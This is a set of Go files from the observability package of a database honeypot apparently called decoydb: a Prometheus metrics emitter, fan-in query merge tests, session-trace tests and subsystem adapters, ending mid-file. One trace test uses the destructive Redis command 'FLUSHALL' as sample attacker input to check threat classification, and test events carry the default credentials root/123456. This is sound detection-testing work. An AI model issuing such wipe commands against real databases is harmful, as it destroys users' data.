func (e *Emitter) fam(name, help string, kind metricKind) *family {
	f := e.fams[name]
	if f == nil {
		f = &family{name: name, help: help, kind: kind}
		e.fams[name] = f
	}
	return f
}

// Counter emits one counter sample. Counter names should end in
// "_total" per Prometheus conventions; the emitter does not enforce it.
func (e *Emitter) Counter(name, help string, v float64, labels ...Label) {
	f := e.fam(name, help, kindCounter)
	f.samples = append(f.samples, sample{labels: labels, value: v})
}

// Gauge emits one gauge sample.
func (e *Emitter) Gauge(name, help string, v float64, labels ...Label) {
	f := e.fam(name, help, kindGauge)
	f.samples = append(f.samples, sample{labels: labels, value: v})
}

// Histogram emits a full histogram family from per-bucket counts:
// bounds[i] is the inclusive upper bound of counts[i], count is the
// total number of observations (observations above the last bound show
// up only in the +Inf bucket), and sum is the sum of all observations.
func (e *Emitter) Histogram(name, help string, bounds []float64, counts []uint64, sum float64, count uint64, labels ...Label) {
	f := e.fam(name, help, kindHistogram)
	var cum uint64
	for i, bound := range bounds {
		if i < len(counts) {
			cum += counts[i]
		}
		bl := append(append([]Label(nil), labels...), L("le", formatFloat(bound)))
		f.samples = append(f.samples, sample{suffix: "_bucket", labels: bl, value: float64(cum)})
	}
	inf := append(append([]Label(nil), labels...), L("le", "+Inf"))
	f.samples = append(f.samples, sample{suffix: "_bucket", labels: inf, value: float64(count)})
	f.samples = append(f.samples, sample{suffix: "_sum", labels: labels, value: sum})
	f.samples = append(f.samples, sample{suffix: "_count", labels: labels, value: float64(count)})
}

// Durations emits a core.DurationHist as a histogram in seconds — the
// shared translation for the WAL append-latency and relay ack-RTT
// histograms.
func (e *Emitter) Durations(name, help string, h core.DurationHist, labels ...Label) {
	bounds := make([]float64, core.DurationBuckets)
	for i := range bounds {
		bounds[i] = core.DurationBucketBound(i).Seconds()
	}
	e.Histogram(name, help, bounds, h.Buckets[:], h.Sum.Seconds(), h.Count, labels...)
}

// Write renders the accumulated samples in the Prometheus text format.
// Families are sorted by name and samples keep emission order, so the
// output is deterministic — golden-testable.
func (e *Emitter) Write(w io.Writer) error {
	names := make([]string, 0, len(e.fams))
	for name := range e.fams {
		names = append(names, name)
	}
	sort.Strings(names)
	var sb strings.Builder
	for _, name := range names {
		f := e.fams[name]
		fmt.Fprintf(&sb, "# HELP %s %s\n", f.name, escapeHelp(f.help))
		fmt.Fprintf(&sb, "# TYPE %s %s\n", f.name, f.kind)
		for _, s := range f.samples {
			sb.WriteString(f.name)
			sb.WriteString(s.suffix)
			writeLabels(&sb, s.labels)
			sb.WriteByte(' ')
			sb.WriteString(formatFloat(s.value))
			sb.WriteByte('\n')
		}
	}
	_, err := io.WriteString(w, sb.String())
	return err
}

func writeLabels(sb *strings.Builder, labels []Label) {
	if len(labels) == 0 {
		return
	}
	sb.WriteByte('{')
	for i, l := range labels {
		if i > 0 {
			sb.WriteByte(',')
		}
		sb.WriteString(l.Name)
		sb.WriteString(`="`)
		sb.WriteString(escapeLabel(l.Value))
		sb.WriteByte('"')
	}
	sb.WriteByte('}')
}

// escapeLabel escapes a label value per the exposition format.
func escapeLabel(v string) string {
	if !strings.ContainsAny(v, "\\\"\n") {
		return v
	}
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return r.Replace(v)
}

// escapeHelp escapes a HELP string per the exposition format.
func escapeHelp(v string) string {
	if !strings.ContainsAny(v, "\\\n") {
		return v
	}
	r := strings.NewReplacer(`\`, `\\`, "\n", `\n`)
	return r.Replace(v)
}

// formatFloat renders a sample value: integers without exponent,
// everything else in Go's shortest round-trip form.
func formatFloat(v float64) string {
	if v == float64(int64(v)) && v < 1e15 && v > -1e15 {
		return strconv.FormatInt(int64(v), 10)
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// Counter is a live monotonically-increasing instrument for code that
// wants push-style counting (as opposed to the scrape-time adapters).
// It implements Source; register it directly.
type Counter struct {
	name string
	help string
	v    atomic.Uint64
}

// NewCounter returns a counter exposed under the given metric name
// (conventionally ending in _total).
func NewCounter(name, help string) *Counter {
	return &Counter{name: name, help: help}
}

// Inc adds one.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n.
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Name implements Source.
func (c *Counter) Name() string { return c.name }

// Collect implements Source.
func (c *Counter) Collect(e *Emitter) { e.Counter(c.name, c.help, float64(c.v.Load())) }

// Status implements Source.
func (c *Counter) Status() any { return c.v.Load() }

// Gauge is a live instrument holding one settable value. It implements
// Source; register it directly.
type Gauge struct {
	name string
	help string
	mu   sync.Mutex
	v    float64
}

// NewGauge returns a gauge exposed under the given metric name.
func NewGauge(name, help string) *Gauge {
	return &Gauge{name: name, help: help}
}

// Set replaces the value.
func (g *Gauge) Set(v float64) {
	g.mu.Lock()
	g.v = v
	g.mu.Unlock()
}

// Add increments the value by d (negative to decrement).
func (g *Gauge) Add(d float64) {
	g.mu.Lock()
	g.v += d
	g.mu.Unlock()
}

// Value returns the current value.
func (g *Gauge) Value() float64 {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.v
}

// Name implements Source.
func (g *Gauge) Name() string { return g.name }

// Collect implements Source.
func (g *Gauge) Collect(e *Emitter) { e.Gauge(g.name, g.help, g.Value()) }

// Status implements Source.
func (g *Gauge) Status() any { return g.Value() }

// Histogram is a live duration instrument: a mutex-guarded
// core.DurationHist. It implements Source; register it directly.
type Histogram struct {
	name string
	help string
	mu   sync.Mutex
	h    core.DurationHist
}

// NewHistogram returns a duration histogram exposed under the given
// metric name (exposed in seconds).
func NewHistogram(name, help string) *Histogram {
	return &Histogram{name: name, help: help}
}

// Observe records one duration.
func (h *Histogram) Observe(d time.Duration) {
	h.mu.Lock()
	h.h.Observe(d)
	h.mu.Unlock()
}

// Snapshot returns a copy of the accumulated histogram.
func (h *Histogram) Snapshot() core.DurationHist {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.h
}

// Name implements Source.
func (h *Histogram) Name() string { return h.name }

// Collect implements Source.
func (h *Histogram) Collect(e *Emitter) {
	e.Durations(h.name, h.help, h.Snapshot())
}

// Status implements Source.
func (h *Histogram) Status() any {
	s := h.Snapshot()
	return map[string]any{"count": s.Count, "mean": s.Mean().String(), "max": s.Max.String()}
}
