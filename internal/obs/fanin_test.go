package obs

import (
	"context"
	"net/http/httptest"
	"net/url"
	"reflect"
	"testing"
	"time"

	"decoydb/internal/evstore"
)

// startPeer serves a QueryHandler-backed admin plane over httptest and
// returns its base URL (scheme included — Client accepts both forms).
func startPeer(t *testing.T, n int, from, to int) string {
	t.Helper()
	store := evstoreWith(t, from, to)
	srv := NewServer(ServerOptions{
		Registry: NewRegistry(),
		Query:    NewQueryHandler(QueryOptions{Store: store}),
	})
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)
	return ts.URL
}

func evstoreWith(t *testing.T, from, to int) *evstore.Store {
	t.Helper()
	store := testStore(t, 0)
	ingestSources(t, store, from, to)
	return store
}

func TestClientQueryAndStatusz(t *testing.T) {
	peer := startPeer(t, 0, 0, 6)
	cl := NewClient(peer, 5*time.Second)

	resp, err := cl.Query(context.Background(), QueryRequest{Limit: 3, Creds: 5})
	if err != nil {
		t.Fatal(err)
	}
	if resp.UniqueIPs != 6 || len(resp.Records) != 3 || resp.Total != 6 {
		t.Fatalf("query: unique=%d records=%d total=%d, want 6/3/6", resp.UniqueIPs, len(resp.Records), resp.Total)
	}
	if len(resp.Creds) == 0 {
		t.Fatal("query returned no creds")
	}

	status, err := cl.Statusz(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := status["admin"]; !ok {
		t.Fatalf("statusz missing admin section: %v", status)
	}
	// No collector runs behind this plane.
	if _, ok, err := CollectorFromStatus(status); err != nil || ok {
		t.Fatalf("CollectorFromStatus = ok=%v err=%v, want false/nil", ok, err)
	}
}

func TestClientErrors(t *testing.T) {
	cl := NewClient("127.0.0.1:1", 500*time.Millisecond)
	if _, err := cl.Query(context.Background(), QueryRequest{}); err == nil {
		t.Fatal("query against a dead address: want error")
	}
	peer := startPeer(t, 0, 0, 2)
	cl = NewClient(peer, 5*time.Second)
	if _, err := cl.Query(context.Background(), QueryRequest{Tier: "bogus"}); err == nil {
		t.Fatal("bad tier: want error surfaced from the 400")
	}
}

func TestQueryRequestValuesRoundTrip(t *testing.T) {
	req := QueryRequest{DBMS: "postgres", Tier: "low", From: 2, To: 9, Limit: 25, Offset: 50, Creds: 7, Fresh: true, Scope: ScopeLocal}
	u := url.URL{Path: "/query", RawQuery: req.Values().Encode()}
	r := httptest.NewRequest("GET", u.String(), nil)
	got, err := ParseQueryRequest(r)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, req) {
		t.Fatalf("round trip: got %+v, want %+v", got, req)
	}
}

func TestFanInMerge(t *testing.T) {
	// Local covers sources 0..4, the peer 3..8: source 3 overlaps, as a
	// farm that failed over mid-capture would.
	local := NewQueryHandler(QueryOptions{Store: evstoreWith(t, 0, 4)})
	peerURL := startPeer(t, 0, 3, 8)

	fi := NewFanIn(FanInOptions{Local: local, Peers: []string{peerURL}, Logf: t.Logf})
	// Mounted exactly as dbcollect mounts it: the tier handler takes the
	// plain QueryHandler's place behind ServerOptions.Query.
	srv := NewServer(ServerOptions{Registry: NewRegistry(), Query: fi})
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	q := queryJSON(t, ts, "creds=10")
	if q.Tier == nil {
		t.Fatal("fanned-in response has no tier section")
	}
	if q.Tier.Collectors != 2 || q.Tier.Responded != 2 {
		t.Fatalf("tier = %+v, want 2 collectors, 2 responded", q.Tier)
	}
	if len(q.Tier.Peers) != 1 || !q.Tier.Peers[0].OK {
		t.Fatalf("peer status = %+v", q.Tier.Peers)
	}

	// 8 distinct sources; the overlapping one must be merged, not
	// double-counted.
	if q.UniqueIPs != 8 || q.Total != 8 || len(q.Records) != 8 {
		t.Fatalf("unique=%d total=%d records=%d, want 8/8/8", q.UniqueIPs, q.Total, len(q.Records))
	}
	// Events: local 4 sources (2+3+2+3 events) + peer 5 (3+2+3+2+3),
	// overlap NOT deduped (they are distinct captured events).
	if want := int64(10 + 13); q.Events != want {
		t.Fatalf("events = %d, want %d", q.Events, want)
	}

	// The overlapping source (index 3 → 203.0.113.4, medium tier) has
	// its per-collector counters summed.
	var overlapped *RecordRow
	for i := range q.Records {
		if q.Records[i].Addr == "203.0.113.4" {
			overlapped = &q.Records[i]
		}
	}
	if overlapped == nil {
		t.Fatal("overlapping source missing from merged records")
	}
	if overlapped.Sessions != 2 || overlapped.Logins != 2 {
		t.Fatalf("overlapped source = %+v, want sessions=2 logins=2", overlapped)
	}

	// Records come back in address order.
	for i := 1; i < len(q.Records); i++ {
		if !addrLess(q.Records[i-1].Addr, q.Records[i].Addr) {
			t.Fatalf("records unsorted: %s before %s", q.Records[i-1].Addr, q.Records[i].Addr)
		}
	}

	// Credentials merged by identity across the tier: "root"/"123456"
	// appears on both collectors (4 even sources total).
	for _, c := range q.Creds {
		if c.User == "root" && c.Pass == "123456" && c.Count != 4 {
			t.Fatalf("root cred count = %d, want 4 (merged)", c.Count)
		}
	}

	// Paging across the merged set: page 2 of size 3.
	page := queryJSON(t, ts, "limit=3&offset=3")
	if len(page.Records) != 3 || page.Offset != 3 {
		t.Fatalf("page: %d records at offset %d, want 3 at 3", len(page.Records), page.Offset)
	}
	if page.Records[0].Addr != q.Records[3].Addr {
		t.Fatalf("page 2 starts at %s, want %s", page.Records[0].Addr, q.Records[3].Addr)
	}

	st := fi.Status().(map[string]any)
	if st["queries"].(uint64) == 0 || st["peer_errors"].(uint64) != 0 {
		t.Fatalf("fanin status: %v", st)
	}
}

// TestFanInMutualPeers is the recursion regression test: in a real
// tier EVERY collector mounts a fan-in and lists the others as peers,
// so peer fetches must be scoped to the peer's local capture — without
// scope=local two mutually-peered fan-ins ask each other forever.
func TestFanInMutualPeers(t *testing.T) {
	// Build both planes first so each fan-in can list the other.
	newTier := func(from, to int) (*FanIn, *httptest.Server) {
		fi := NewFanIn(FanInOptions{
			Local:   NewQueryHandler(QueryOptions{Store: evstoreWith(t, from, to)}),
			Timeout: 5 * time.Second,
			Logf:    t.Logf,
		})
		srv := NewServer(ServerOptions{Registry: NewRegistry(), Query: fi})
		ts := httptest.NewServer(srv.Handler())
		t.Cleanup(ts.Close)
		return fi, ts
	}
	fiA, tsA := newTier(0, 3)
	fiB, tsB := newTier(3, 6)
	fiA.clients = append(fiA.clients, NewClient(tsB.URL, 5*time.Second))
	fiB.clients = append(fiB.clients, NewClient(tsA.URL, 5*time.Second))

	for _, ts := range []*httptest.Server{tsA, tsB} {
		q := queryJSON(t, ts, "")
		if q.Tier == nil || q.Tier.Responded != 2 {
			t.Fatalf("mutual tier via %s: %+v, want 2 responded", ts.URL, q.Tier)
		}
		// 3 local + 3 remote distinct sources, merged once each.
		if q.UniqueIPs != 6 || len(q.Records) != 6 {
			t.Fatalf("mutual tier via %s: unique=%d records=%d, want 6/6", ts.URL, q.UniqueIPs, len(q.Records))
		}
	}
	// The scoped fetches must not have fanned out again: each side
	// served exactly one merged query (ours) — the peer's scope=local
	// probe bypasses the merge path entirely.
	if a, b := fiA.queries.Load(), fiB.queries.Load(); a != 1 || b != 1 {
		t.Fatalf("merged queries served = %d/%d, want 1/1 (scope=local must bypass fan-out)", a, b)
	}
}

func TestFanInPeerFailure(t *testing.T) {
	local := NewQueryHandler(QueryOptions{Store: evstoreWith(t, 0, 4)})
	fi := NewFanIn(FanInOptions{
		Local:   local,
		Peers:   []string{"127.0.0.1:1"}, // nothing listens here
		Timeout: time.Second,
		Logf:    t.Logf,
	})
	srv := NewServer(ServerOptions{Registry: NewRegistry(), Query: fi})
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	q := queryJSON(t, ts, "")
	if q.Tier == nil || q.Tier.Responded != 1 || q.Tier.Collectors != 2 {
		t.Fatalf("tier = %+v, want 1 of 2 responded", q.Tier)
	}
	if len(q.Tier.Peers) != 1 || q.Tier.Peers[0].OK || q.Tier.Peers[0].Error == "" {
		t.Fatalf("peer status = %+v, want a reported failure", q.Tier.Peers)
	}
	// Local data still served.
	if q.UniqueIPs != 4 || len(q.Records) != 4 {
		t.Fatalf("local degradation: unique=%d records=%d, want 4/4", q.UniqueIPs, len(q.Records))
	}
	if fi.Status().(map[string]any)["peer_errors"].(uint64) == 0 {
		t.Fatal("peer error not counted")
	}
}

// TestFanInApproxOnTruncatedPages pins the coverage gate on overlap
// subtraction: when a collector's record page is cut by the limit, the
// pages cannot expose all cross-collector overlap, so the merged
// unique/total counts must stay the per-collector sums (an honest upper
// bound) and the response must say so via Tier.Approx — instead of
// subtracting the partially-visible overlap and presenting the result
// as exact.
func TestFanInApproxOnTruncatedPages(t *testing.T) {
	// Local covers sources 0..3, the peer 3..7: one overlapping source
	// (true tier-wide unique count: 8).
	local := NewQueryHandler(QueryOptions{Store: evstoreWith(t, 0, 4)})
	peerURL := startPeer(t, 0, 3, 8)
	fi := NewFanIn(FanInOptions{Local: local, Peers: []string{peerURL}, Logf: t.Logf})
	srv := NewServer(ServerOptions{Registry: NewRegistry(), Query: fi})
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	// Full pages: every page covers its selection, the overlap is fully
	// visible, the counts are exact and NOT flagged approximate.
	full := queryJSON(t, ts, "limit=100")
	if full.Tier == nil || full.Tier.Approx {
		t.Fatalf("covered pages flagged approximate: %+v", full.Tier)
	}
	if full.UniqueIPs != 8 || full.Total != 8 {
		t.Fatalf("covered merge: unique=%d total=%d, want 8/8", full.UniqueIPs, full.Total)
	}

	// limit=2 truncates both pages (local holds 4 records, the peer 5).
	// The overlapping source is invisible in the fetched pages, so any
	// subtraction would be fiction: the counts must stay the sums (4+5)
	// and be flagged.
	cut := queryJSON(t, ts, "limit=2")
	if cut.Tier == nil || !cut.Tier.Approx {
		t.Fatalf("truncated pages not flagged approximate: %+v", cut.Tier)
	}
	if cut.UniqueIPs != 9 || cut.Total != 9 {
		t.Fatalf("truncated merge: unique=%d total=%d, want the 9/9 upper bound", cut.UniqueIPs, cut.Total)
	}
	if len(cut.Records) != 2 {
		t.Fatalf("page size = %d, want 2", len(cut.Records))
	}
}

// TestFanInApproxOnPeerFailure: a peer that never answered means a
// slice of the tier is missing, which also makes the merged counts
// not-exact — the flag must say so.
func TestFanInApproxOnPeerFailure(t *testing.T) {
	local := NewQueryHandler(QueryOptions{Store: evstoreWith(t, 0, 4)})
	fi := NewFanIn(FanInOptions{
		Local:   local,
		Peers:   []string{"127.0.0.1:1"},
		Timeout: time.Second,
		Logf:    t.Logf,
	})
	srv := NewServer(ServerOptions{Registry: NewRegistry(), Query: fi})
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	if q := queryJSON(t, ts, ""); q.Tier == nil || !q.Tier.Approx {
		t.Fatalf("dead peer not flagged approximate: %+v", q.Tier)
	}
}
