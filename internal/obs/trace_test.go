package obs

import (
	"net/netip"
	"testing"
	"time"

	"decoydb/internal/core"
)

var traceStart = time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)

func traceEvent(src string, hp core.Info, kind core.EventKind, at time.Duration) core.Event {
	return core.Event{
		Time:     traceStart.Add(at),
		Src:      netip.MustParseAddrPort(src),
		Honeypot: hp,
		Kind:     kind,
	}
}

// TestTraceLifecycle walks one session banner → auth → query → close
// and checks the completed span: phases, counters, and the classify
// verdict escalating to exploiting on a destructive Redis command.
func TestTraceLifecycle(t *testing.T) {
	hp := core.Info{DBMS: core.Redis, Level: core.Medium, Group: core.GroupMedium, Config: core.ConfigDefault}
	tr := NewTraceRing(TraceOptions{})

	ev := []core.Event{
		traceEvent("203.0.113.9:40000", hp, core.EventConnect, 0),
		traceEvent("203.0.113.9:40000", hp, core.EventLogin, time.Second),
		traceEvent("203.0.113.9:40000", hp, core.EventCommand, 2*time.Second),
		traceEvent("203.0.113.9:40000", hp, core.EventClose, 3*time.Second),
	}
	ev[2].Command = "FLUSHALL"
	if err := tr.RecordBatch(ev); err != nil {
		t.Fatal(err)
	}

	if n := len(tr.Active(0)); n != 0 {
		t.Fatalf("%d active spans after close, want 0", n)
	}
	recent := tr.Recent(0)
	if len(recent) != 1 {
		t.Fatalf("%d completed spans, want 1", len(recent))
	}
	sp := recent[0]
	if sp.Phase != PhaseQuery {
		t.Errorf("final phase %q, want %q", sp.Phase, PhaseQuery)
	}
	if len(sp.Transitions) != 3 {
		t.Fatalf("transitions %v, want banner/auth/query", sp.Transitions)
	}
	for i, phase := range []string{PhaseBanner, PhaseAuth, PhaseQuery} {
		if sp.Transitions[i].Phase != phase {
			t.Errorf("transition %d = %q, want %q", i, sp.Transitions[i].Phase, phase)
		}
	}
	if sp.Events != 4 || sp.Logins != 1 || sp.Commands != 1 {
		t.Errorf("counters events=%d logins=%d commands=%d", sp.Events, sp.Logins, sp.Commands)
	}
	if sp.Verdict != "exploiting" {
		t.Errorf("verdict %q, want exploiting (FLUSHALL)", sp.Verdict)
	}
	if sp.End.Sub(sp.Start) != 3*time.Second {
		t.Errorf("span duration %s, want 3s", sp.End.Sub(sp.Start))
	}
	if st := tr.Stats(); st.Verdicts["exploiting"] != 1 {
		t.Errorf("verdict stats %v", st.Verdicts)
	}
}

// TestTracePhaseNeverRegresses: a login arriving after commands does not
// pull the span back into the auth phase.
func TestTracePhaseNeverRegresses(t *testing.T) {
	hp := core.Info{DBMS: core.MongoDB, Level: core.Medium}
	tr := NewTraceRing(TraceOptions{})
	tr.Record(traceEvent("198.51.100.1:10", hp, core.EventConnect, 0))
	cmd := traceEvent("198.51.100.1:10", hp, core.EventCommand, time.Second)
	cmd.Command = "FIND"
	tr.Record(cmd)
	tr.Record(traceEvent("198.51.100.1:10", hp, core.EventLogin, 2*time.Second))
	spans := tr.Active(0)
	if len(spans) != 1 {
		t.Fatalf("%d active spans, want 1", len(spans))
	}
	sp := &spans[0]
	if sp.Phase != PhaseQuery {
		t.Errorf("phase %q after late login, want %q", sp.Phase, PhaseQuery)
	}
	if len(sp.Transitions) != 2 {
		t.Errorf("transitions %v, want banner+query only", sp.Transitions)
	}
}

// TestTraceEviction: the active cap force-completes the oldest span.
func TestTraceEviction(t *testing.T) {
	hp := core.Info{DBMS: core.Postgres, Level: core.Low}
	tr := NewTraceRing(TraceOptions{MaxActive: 2})
	tr.Record(traceEvent("192.0.2.1:100", hp, core.EventConnect, 0))
	tr.Record(traceEvent("192.0.2.2:100", hp, core.EventConnect, time.Second))
	tr.Record(traceEvent("192.0.2.3:100", hp, core.EventConnect, 2*time.Second))

	if n := len(tr.Active(0)); n != 2 {
		t.Fatalf("%d active spans, want 2 (cap)", n)
	}
	st := tr.Stats()
	if st.Evicted != 1 {
		t.Errorf("evicted = %d, want 1", st.Evicted)
	}
	recent := tr.Recent(0)
	if len(recent) != 1 || recent[0].Src != "192.0.2.1:100" {
		t.Errorf("evicted span = %+v, want the oldest (192.0.2.1)", recent)
	}
}

// TestTraceRingWrap: the completed ring keeps only the newest Ring spans.
func TestTraceRingWrap(t *testing.T) {
	hp := core.Info{DBMS: core.Redis, Level: core.Low}
	tr := NewTraceRing(TraceOptions{Ring: 2})
	for i, src := range []string{"192.0.2.1:1", "192.0.2.2:1", "192.0.2.3:1"} {
		at := time.Duration(i) * time.Minute
		tr.Record(traceEvent(src, hp, core.EventConnect, at))
		tr.Record(traceEvent(src, hp, core.EventClose, at+time.Second))
	}
	recent := tr.Recent(0)
	if len(recent) != 2 {
		t.Fatalf("%d retained spans, want 2", len(recent))
	}
	if recent[0].Src != "192.0.2.3:1" || recent[1].Src != "192.0.2.2:1" {
		t.Errorf("retained %q then %q, want newest first 192.0.2.3, 192.0.2.2",
			recent[0].Src, recent[1].Src)
	}
	if st := tr.Stats(); st.Completed != 3 {
		t.Errorf("completed = %d, want 3", st.Completed)
	}
}

// TestTraceLoneClose: a close with no live span (restart, eviction) is
// dropped rather than fabricating an empty span.
func TestTraceLoneClose(t *testing.T) {
	tr := NewTraceRing(TraceOptions{})
	tr.Record(traceEvent("192.0.2.9:5", core.Info{DBMS: core.Redis}, core.EventClose, 0))
	if len(tr.Active(0)) != 0 || len(tr.Recent(0)) != 0 {
		t.Error("lone close created a span")
	}
}

// TestTraceActionBound: the per-span action list stops growing at
// MaxActions while counters keep counting.
func TestTraceActionBound(t *testing.T) {
	hp := core.Info{DBMS: core.Redis, Level: core.Medium}
	tr := NewTraceRing(TraceOptions{MaxActions: 4})
	tr.Record(traceEvent("192.0.2.7:9", hp, core.EventConnect, 0))
	for i := 0; i < 10; i++ {
		ev := traceEvent("192.0.2.7:9", hp, core.EventCommand, time.Duration(i)*time.Second)
		ev.Command = "INFO"
		tr.Record(ev)
	}
	sp := tr.Active(0)[0]
	if sp.Commands != 10 {
		t.Errorf("commands = %d, want 10", sp.Commands)
	}
	if sp.Verdict != "scouting" {
		t.Errorf("verdict %q, want scouting (INFO)", sp.Verdict)
	}
}
