package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"regexp"
	"strconv"
	"testing"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/relay"
)

// TestLiveCollectorPlane is the acceptance test for the observability
// tentpole: a collector with the full admin plane attached ingests a
// forwarder flood, and both /metrics and /query — scraped over a real
// TCP listener — show the counts advancing between waves.
func TestLiveCollectorPlane(t *testing.T) {
	store := evstore.NewSharded(traceStart, 20, nil, 2)
	stats := &bus.StatsSink{}
	traces := NewTraceRing(TraceOptions{})
	coll, err := relay.NewCollector(relay.CollectorOptions{Token: "tok"}, store, stats, traces)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	serveDone := make(chan error, 1)
	go func() { serveDone <- coll.Serve(ln) }()
	defer func() {
		coll.Close()
		if err := <-serveDone; err != nil {
			t.Errorf("serve: %v", err)
		}
	}()

	reg := NewRegistry()
	reg.Register(CollectorSource(coll))
	reg.Register(KindSource(stats))
	reg.Register(StoreSource(store))
	srv := NewServer(ServerOptions{
		Registry: reg,
		Traces:   traces,
		Query:    NewQueryHandler(QueryOptions{Store: store}),
	})
	admin, err := srv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	fwd, err := relay.NewForwardSink(relay.ForwardOptions{
		Addrs: []string{ln.Addr().String()}, Token: "tok", Farm: "farm-a",
		FrameEvents: 32, Block: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()

	flood := func(from, to int) {
		t.Helper()
		hp := core.Info{DBMS: core.Redis, Level: core.Low, Group: core.GroupMulti, Config: core.ConfigDefault}
		var batch []core.Event
		for i := from; i < to; i++ {
			src := netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, byte(i)}), 40000)
			at := traceStart.Add(time.Duration(i) * time.Second)
			batch = append(batch,
				core.Event{Time: at, Src: src, Honeypot: hp, Kind: core.EventConnect},
				core.Event{Time: at.Add(time.Second), Src: src, Honeypot: hp, Kind: core.EventLogin, User: "root", Pass: "123456"},
			)
		}
		if err := fwd.RecordBatch(batch); err != nil {
			t.Fatal(err)
		}
		fwd.Flush()
	}
	scrape := func(path string) string {
		t.Helper()
		resp, err := http.Get(fmt.Sprintf("http://%s%s", admin, path))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: %d %s", path, resp.StatusCode, b)
		}
		return string(b)
	}
	metric := func(body, name string) float64 {
		t.Helper()
		m := regexp.MustCompile(`(?m)^` + regexp.QuoteMeta(name) + ` (\S+)$`).FindStringSubmatch(body)
		if m == nil {
			t.Fatalf("metric %s not in scrape:\n%s", name, body)
		}
		v, err := strconv.ParseFloat(m[1], 64)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	query := func() QueryResponse {
		t.Helper()
		var resp QueryResponse
		if err := json.Unmarshal([]byte(scrape("/query?fresh=1")), &resp); err != nil {
			t.Fatal(err)
		}
		return resp
	}

	// Wave one: 10 sources, 20 events, then scrape everything.
	flood(1, 11)
	body := scrape("/metrics")
	ingested1 := metric(body, "decoydb_collector_events_total")
	if ingested1 != 20 {
		t.Fatalf("after wave 1: collector ingested %v events, want 20", ingested1)
	}
	if got := metric(body, "decoydb_store_events_total"); got != 20 {
		t.Fatalf("store metric %v, want 20", got)
	}
	q1 := query()
	if q1.Events != 20 || q1.UniqueIPs != 10 || q1.Logins != 10 {
		t.Fatalf("wave 1 query: events=%d unique=%d logins=%d, want 20/10/10", q1.Events, q1.UniqueIPs, q1.Logins)
	}

	// Wave two: 5 more sources. Counts must advance between scrapes —
	// the live-monitoring property the plane exists for.
	flood(11, 16)
	body = scrape("/metrics")
	if got := metric(body, "decoydb_collector_events_total"); got != ingested1+10 {
		t.Fatalf("after wave 2: collector ingested %v events, want %v", got, ingested1+10)
	}
	q2 := query()
	if q2.Events != 30 || q2.UniqueIPs != 15 {
		t.Fatalf("wave 2 query: events=%d unique=%d, want 30/15", q2.Events, q2.UniqueIPs)
	}
	if len(q2.Creds) == 0 || q2.Creds[0].User != "root" || q2.Creds[0].Count != 15 {
		t.Fatalf("creds after both waves: %+v, want root x15", q2.Creds)
	}

	// The trace ring rode along as a collector sink: every source that
	// logged in has a span, visible in both /metrics and /traces.
	if got := metric(body, "decoydb_traces_active"); got != 15 {
		t.Fatalf("active traces %v, want 15", got)
	}
	ts := traces.Stats()
	if ts.Active != 15 {
		t.Fatalf("trace stats: %+v", ts)
	}

	// The relay transport's own health shows in the same scrape.
	if got := metric(body, `decoydb_collector_farm_events_total{farm="farm-a"}`); got != 30 {
		t.Fatalf("per-farm events %v, want 30", got)
	}
}
