package obs

import (
	"decoydb/internal/bus"
	"decoydb/internal/evstore"
	"decoydb/internal/relay"
	"decoydb/internal/wal"
)

// This file holds the scrape-time adapters: each wraps one subsystem's
// Stats() snapshot as an obs.Source. An adapter takes exactly one
// snapshot per Collect or Status call and translates it into metric
// families — the subsystems keep their plain counters and pay nothing
// until a scraper asks. Unbounded label sets (per-source shed tables)
// stay out of /metrics deliberately; they surface in /statusz where
// cardinality is not a time-series liability.

// busSource adapts *bus.Bus.
type busSource struct{ b *bus.Bus }

// BusSource wraps the event bus as a registry source named "bus".
func BusSource(b *bus.Bus) Source { return busSource{b} }

func (s busSource) Name() string { return "bus" }

func (s busSource) Status() any { return s.b.Stats() }

func (s busSource) Collect(e *Emitter) {
	st := s.b.Stats()
	e.Counter("decoydb_bus_enqueued_total", "Events accepted by the bus.", float64(st.Enqueued))
	e.Counter("decoydb_bus_delivered_total", "Events delivered to sinks.", float64(st.Delivered))
	e.Counter("decoydb_bus_dropped_total", "Events dropped by backpressure policy.", float64(st.Dropped))
	e.Counter("decoydb_bus_shed_unattributed_total", "Adaptive sheds whose per-source entry was evicted.", float64(st.ShedUnattributed))
	e.Gauge("decoydb_bus_pending", "Events queued, not yet delivered.", float64(st.Pending))
	e.Gauge("decoydb_bus_shards", "Bus shard count.", float64(st.Shards))

	// Delivered batch sizes: bucket i of BatchHist covers (2^(i-1), 2^i]
	// events, last bucket open-ended — which maps to bounds 2^i for the
	// first HistBuckets-1 buckets with the open tail in +Inf. The sum of
	// all batch-size observations is exactly the delivered event count.
	bounds := make([]float64, bus.HistBuckets-1)
	for i := range bounds {
		bounds[i] = float64(uint64(1) << uint(i))
	}
	var batches uint64
	for _, n := range st.BatchHist {
		batches += n
	}
	e.Histogram("decoydb_bus_batch_size", "Events per delivered batch.",
